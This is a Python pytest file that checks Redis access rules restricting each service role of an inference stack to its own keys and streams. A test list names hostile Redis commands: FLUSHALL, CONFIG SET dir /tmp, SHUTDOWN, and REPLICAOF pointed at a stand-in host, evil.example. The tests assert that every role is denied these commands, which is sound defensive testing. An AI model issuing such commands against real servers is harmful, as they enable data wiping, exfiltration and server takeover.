"""The access rules of Redis in containers: the services do all their work under them, and can do nothing else.

A server of its own with the rules that docker-compose.yml gives it, made by the script that it runs.
"""

from __future__ import annotations

import asyncio
import json
import shlex
import subprocess
from collections.abc import AsyncIterator, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import redis
import redis.asyncio
from redis.exceptions import AuthenticationError, NoPermissionError

from rootstream.embedded import EmbeddedServer
from shared.bus import Bus
from shared.config import Settings
from shared.redis_url import connection_url
from shared.registry import Role
from shared.service import Context, run
from tests.stack import SERVICES, Stack, free_port, started

DOCKER = Path(__file__).parents[2] / "docker" / "redis"
ROLES = ("tokenizer", "scheduler", "worker", "detokenizer")
PREFIX = "rootstream"


class GuardedServer(EmbeddedServer):
    """The embedded server with access rules."""

    def command(self) -> list[str]:
        return [*super().command(), "--aclfile", str(self.directory / "secrets" / "redis" / "users.acl")]


def make_users(secrets: Path) -> None:
    for directory in (*ROLES, "redis"):
        (secrets / directory).mkdir(parents=True, exist_ok=True)
    subprocess.run(["sh", str(DOCKER / "make_users.sh"), str(DOCKER / "users.acl"), str(secrets)], check=True)


def password_file(secrets: Path, role: str) -> Path:
    return secrets / role / "redis-password"


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[GuardedServer]:
    directory = tmp_path_factory.mktemp("acl")
    make_users(directory / "secrets")
    with (directory / "secrets" / "redis" / "users.acl").open("a") as rules:
        rules.write("user judge on nopass ~* +@all\n")
    server = GuardedServer(directory)
    server.start()
    yield server
    server.stop()


@pytest.fixture(scope="module")
def secrets(server: GuardedServer) -> Path:
    return server.directory / "secrets"


@pytest.fixture
def judge(server: GuardedServer) -> Iterator[Any]:
    with redis.Redis.from_url(server.url, username="judge", password="any") as client:
        yield client


class GuardedStack(Stack):
    """Every service under its own user."""

    def __init__(self, settings: Settings, secrets: Path) -> None:
        super().__init__(settings)
        self._secrets = secrets

    def start(self, role: Role, replica: str = "0") -> None:
        plain = self.settings
        self.settings = replace(plain, redis_user=role, redis_password_file=password_file(self._secrets, role))
        super().start(role, replica)
        self.settings = plain


@pytest.fixture
async def stack(server: GuardedServer, secrets: Path, toy_model: Path, cache_dir: Path) -> AsyncIterator[GuardedStack]:
    settings = Settings(
        model=str(toy_model), redis=server.url, namespace=PREFIX, port=free_port(), cache_dir=cache_dir,
        dtype="float32", kv_memory="16MiB", threads=1,
    )  # fmt: skip
    stack = GuardedStack(settings, secrets)
    async with started(stack):
        yield stack


async def resumed(stack: GuardedStack) -> None:
    """Everything that is done with answers that outlive their connections."""
    body = {"prompt": "a", "max_tokens": 4, "stream": True, "resumable": True}
    async with stack.http.post(f"{stack.url}/v1/completions", json=body) as response:
        id = json.loads((await response.text()).partition("data: ")[2].partition("\n")[0])["id"]
    streams = f"{stack.url}/v1/streams/{id}"
    async with stack.http.get(streams) as response:
        assert "[DONE]" in await response.text()
    async with stack.http.delete(streams) as response:
        assert response.status < 300
    async with stack.http.post(
        f"{stack.url}/v1/completions", json={**body, "stream": False, "resumable": False, "background": True}
    ) as response:
        assert response.status == 202
        url = (await response.json())["stream_url"]
    async with stack.http.get(f"{stack.url}{url}?wait=30") as response:
        assert response.status == 200


async def went_on(stack: GuardedStack) -> None:
    """Everything that is done with contexts."""
    said = {"type": "text", "text": "a"}
    root = await stack.post("/v1/contexts", {"parts": [said], "prefill": True, "id": "root"})
    gen = {"type": "gen", "name": "x", "max_tokens": 2}
    child = await stack.post("/v1/contexts", {"parts": [gen], "parent": root["id"], "release": [root["id"]]})
    url = f"{stack.url}/v1/contexts/{child['id']}"
    for method in ("get", "delete"):
        async with stack.http.request(method, url) as response:
            assert response.status == 200


async def test_all_work_is_done_under_the_rules(stack: GuardedStack, judge: Any) -> None:
    judge.acl_log_reset()
    await stack.generate([5, 6, 7], 8)
    await stack.post("/v1/completions", {"prompt": "a", "max_tokens": 4, "n": 2, "stop": ["zz"], "cache_salt": "s"})
    await stack.post("/v1/completions", {"prompt": "a", "max_tokens": 4, "regex": "[0-9]{2}"})
    await resumed(stack)
    await went_on(stack)
    await stack.post("/flush_cache", {})
    await stack.post("/abort_request", {"rid": "cmpl-40000000000000ff"})
    assert await stack.metric("rootstream_http_requests_total") > 0
    # What only happens after a fault: everything is read again, and said again.
    for role in (Role.DETOKENIZER, Role.SCHEDULER, Role.WORKER, Role.TOKENIZER):
        await stack.kill(role)
        stack.start(role)
        await stack.ready()
        await stack.generate([5, 6, 7], 8)
    for name in (b"live", b"requests"):
        judge.delete(f"{PREFIX}:{name.decode()}")
    judge.xadd(f"{PREFIX}:requests", {"m": "no message"})
    await stack.generate([5, 6, 7, 8], 8)
    async with asyncio.timeout(10):
        while not judge.xlen(f"{PREFIX}:dead"):
            await asyncio.sleep(0.02)
    denied = [(entry["username"], entry["object"], entry["reason"]) for entry in judge.acl_log()]
    assert not denied


_NAMES = (
    "live requests plans:0 steps:0 detok:d texts:t grammar:g model alive metrics epoch:0 mark dead "
    "answer:a resumable readers context:t/c contexts:t"
)
KEYS = [f"{PREFIX}:{name}" for name in _NAMES.split()]
READS: dict[str, set[str]] = {  # what each role needs to know
    "tokenizer": {
        *("live", "texts", "grammar", "model", "alive", "metrics", "mark"),
        *("answer", "resumable", "readers", "context"),
    },
    "scheduler": {"live", "requests", "steps", "model", "alive", "mark"},
    "worker": {"plans", "grammar", "alive", "mark"},
    "detokenizer": {"detok", "steps", "alive", "mark"},
}
ADDS: dict[str, set[str]] = {  # to which streams each role has something to say
    "tokenizer": {"requests", "detok", "dead", "answer"},
    "scheduler": {"plans", "steps", "texts", "dead"},
    "worker": {"steps", "dead"},
    "detokenizer": {"texts", "requests", "dead"},
}


@pytest.fixture(params=ROLES)
def role(request: pytest.FixtureRequest) -> str:
    return request.param


def allowed(client: Any, *command: str) -> bool:
    """Whether a role may do this; errors of other kinds mean yes."""
    try:
        client.execute_command(*command)
    except NoPermissionError:
        return False
    except redis.ResponseError:
        return True
    return True


def kind(key: str) -> str:
    return key.split(":")[1]


def test_nobody_reads_or_writes_what_is_not_theirs(server: GuardedServer, secrets: Path, role: str, judge: Any) -> None:
    password = password_file(secrets, role).read_text().strip()
    reading = (("GET",), ("HGETALL",), ("XREVRANGE", "+", "-", "COUNT", "1"), ("XREAD",))
    with redis.Redis.from_url(server.url, username=role, password=password) as client:
        for key in (*KEYS, "other:live", "rootstreamy", f"{PREFIX}:unknown"):
            read = any(
                allowed(client, name, "COUNT", "1", "STREAMS", key, "0")
                if name == "XREAD"
                else allowed(client, name, key, *rest)
                for name, *rest in reading
            )
            assert read == (kind(key + ":") in READS[role] and key in KEYS), (role, "reads", key)
            added = allowed(client, "XADD", key, "MAXLEN", "0", "*", "m", "x")
            assert added == (kind(key + ":") in ADDS[role] and key in KEYS), (role, "adds to", key)
    judge.delete(*KEYS)


_COMMANDS = f"""
FLUSHALL; FLUSHDB; KEYS *; SCAN 0; CONFIG GET *; CONFIG SET dir /tmp; SAVE; SHUTDOWN; EVAL "return 1" 0; FUNCTION LIST;
MODULE LIST; REPLICAOF evil.example 6379; CLIENT LIST; CLIENT KILL ID 1; MONITOR; ACL LIST; ACL SETUSER x;
SUBSCRIBE c; PUBLISH c x; DEL {PREFIX}:live; DEL {PREFIX}:requests; DEL {PREFIX}:steps:0; HDEL {PREFIX}:model 0;
RENAME {PREFIX}:live {PREFIX}:mark; SET {PREFIX}:live x; MIGRATE h 1 k 0 1; SORT {PREFIX}:live GET *; DUMP {PREFIX}:live
"""


def test_no_role_commands_the_server(server: GuardedServer, secrets: Path, role: str) -> None:
    password = password_file(secrets, role).read_text().strip()
    with redis.Redis.from_url(server.url, username=role, password=password) as client:
        for command in map(shlex.split, _COMMANDS.split(";")):
            assert not allowed(client, *command), (role, command)


def test_without_a_password_there_is_nothing_but_a_sign_of_life(server: GuardedServer) -> None:
    with redis.Redis.from_url(server.url) as client:
        assert client.ping()
        for key in KEYS:
            assert not allowed(client, "GET", key)
            assert not allowed(client, "XADD", key, "*", "m", "x")
    for role in ROLES:
        guessing = redis.Redis.from_url(server.url, username=role, password="guessed")
        with guessing as client, pytest.raises(AuthenticationError):
            client.ping()


async def test_a_role_cannot_play_another(server: GuardedServer, secrets: Path, toy_model: Path) -> None:
    """A scheduler under the worker's user gets nowhere, and says why."""
    settings = Settings(
        model=str(toy_model), redis=server.url, namespace=PREFIX, replica="x",
        redis_user="worker", redis_password_file=password_file(secrets, "worker"),
    )  # fmt: skip
    context = Context(Role.SCHEDULER, settings, Bus.connect(connection_url(settings), PREFIX))
    with pytest.raises(NoPermissionError):
        await run(context, SERVICES[Role.SCHEDULER])


def test_passwords_are_made_once_and_the_rules_hold_no_password(tmp_path: Path) -> None:
    make_users(tmp_path)
    before = {role: password_file(tmp_path, role).read_text() for role in ROLES}
    rules = (tmp_path / "redis" / "users.acl").read_text()
    make_users(tmp_path)
    assert {role: password_file(tmp_path, role).read_text() for role in ROLES} == before
    assert (tmp_path / "redis" / "users.acl").read_text() == rules
    assert len(set(before.values())) == len(ROLES)
    for password in before.values():
        assert len(password.strip()) == 64
        assert password.strip() not in rules
    assert not [line for line in rules.splitlines() if not line.startswith("user ")]
